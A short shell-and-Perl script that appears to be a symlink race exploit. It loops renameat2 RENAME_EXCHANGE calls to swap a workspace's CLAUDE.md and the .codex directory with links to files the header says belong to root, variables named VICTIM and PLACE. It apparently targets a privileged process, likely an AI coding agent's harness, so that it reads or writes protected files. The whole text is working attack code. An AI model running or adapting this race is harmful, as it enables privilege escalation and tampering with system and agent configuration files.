#!/bin/sh
# Exchanges files and directories of the home with links to root's, without a pause, until $HOME/stop is there.
set -eu
mkdir -p "$HOME/.codex"
ln -sfn "$VICTIM" "$HOME/.a-link"
ln -sfn "$PLACE" "$HOME/.a-place"
touch "$HOME/racing"
exec perl -e '
  my @pairs = ([".a-link", "workspace/CLAUDE.md"], [".a-place", ".codex"]);
  my $until = time + 60;
  until (-e "$ENV{HOME}/stop" || time > $until) {
    for my $pair (@pairs) {
      my ($from, $to) = map { "$ENV{HOME}/$_" } @$pair;
      syscall(316, -100, $from, -100, $to, 2); # renameat2, RENAME_EXCHANGE
    }
  }'
